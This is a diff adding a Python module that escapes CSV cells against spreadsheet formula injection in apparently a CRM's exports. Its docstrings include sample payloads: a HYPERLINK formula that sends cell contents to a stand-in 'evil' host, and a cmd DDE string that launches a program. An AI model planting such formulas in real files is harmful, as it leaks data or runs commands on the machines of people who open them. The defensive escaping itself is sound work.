@@ -1,0 +1,87 @@
+"""CSV cells a spreadsheet will not run: formula-injection escaping (OWASP "CSV Injection").
+
+Marketers open graphcrm's CSV exports in Excel, LibreOffice or Google Sheets.
+A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
+return is read there as a formula, so an account named
+``=HYPERLINK("http://evil/?"&A1)`` would run when the file is opened.  Every
+CSV graphcrm writes passes through :func:`escape_frame`: such text cells (and
+column names) get a leading single quote, which spreadsheets show as text and
+do not evaluate.  Plain numbers (``-2``, ``+1.5e3``) are left alone: a number
+is not a formula.  Numeric columns are never touched, and Parquet is written
+as is.
+
+Machine consumers that want the raw text set ``GRAPHCRM_CSV_RAW=1`` (or pass
+``escape=False`` to the writers); :func:`unescape_cell` undoes the escaping.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+
+import pandas as pd
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
+RAW_ENV = "GRAPHCRM_CSV_RAW"
+
+
+def escaping_enabled(escape: bool | None = None) -> bool:
+    """``escape`` if given, else on unless ``GRAPHCRM_CSV_RAW`` is set to 1/true/yes."""
+    if escape is not None:
+        return bool(escape)
+    return os.environ.get(RAW_ENV, "").strip().lower() not in ("1", "true", "yes")
+
+
+def escape_cell(value):
+    """Prefix ``'`` to text a spreadsheet would evaluate; anything else unchanged.
+
+    Examples
+    --------
+    >>> [escape_cell(v) for v in ["=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "-2", "bob", 7]]
+    ["'=1+1", "'+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3", '-2', 'bob', 7]
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.match(value):
+        return "'" + value
+    return value
+
+
+def unescape_cell(value):
+    """The text before :func:`escape_cell` (for reading graphcrm's own CSV back).
+
+    Examples
+    --------
+    >>> unescape_cell("'=1+1"), unescape_cell("'quoted"), unescape_cell("bob")
+    ('=1+1', "'quoted", 'bob')
+    """
+    if isinstance(value, str) and len(value) > 1 and value[0] == "'" and value[1:].startswith(FORMULA_START):
+        return value[1:]
+    return value
+
+
+def escape_frame(frame: pd.DataFrame, escape: bool | None = None) -> pd.DataFrame:
+    """``frame`` with its text cells and column names escaped (a copy only where something changes).
+
+    Examples
+    --------
+    >>> escape_frame(pd.DataFrame({"id": ["=HYPERLINK(1)", "ann"], "score": [-1.5, 2.0]})).values.tolist()
+    [["'=HYPERLINK(1)", -1.5], ['ann', 2.0]]
+    """
+    if not escaping_enabled(escape):
+        return frame
+    out = frame
+    for col in frame.columns:
+        series = frame[col]
+        if series.dtype == object or isinstance(series.dtype, pd.StringDtype) or isinstance(series.dtype,
+                                                                                              pd.CategoricalDtype):
+            values = series.astype(object)
+            escaped = values.map(escape_cell)
+            if not escaped.equals(values):
+                if out is frame:
+                    out = frame.copy()
+                out[col] = escaped
+    names = [escape_cell(str(c)) if isinstance(c, str) else c for c in out.columns]
+    if names != list(out.columns):
+        out = out.copy() if out is frame else out
+        out.columns = names
+    return out
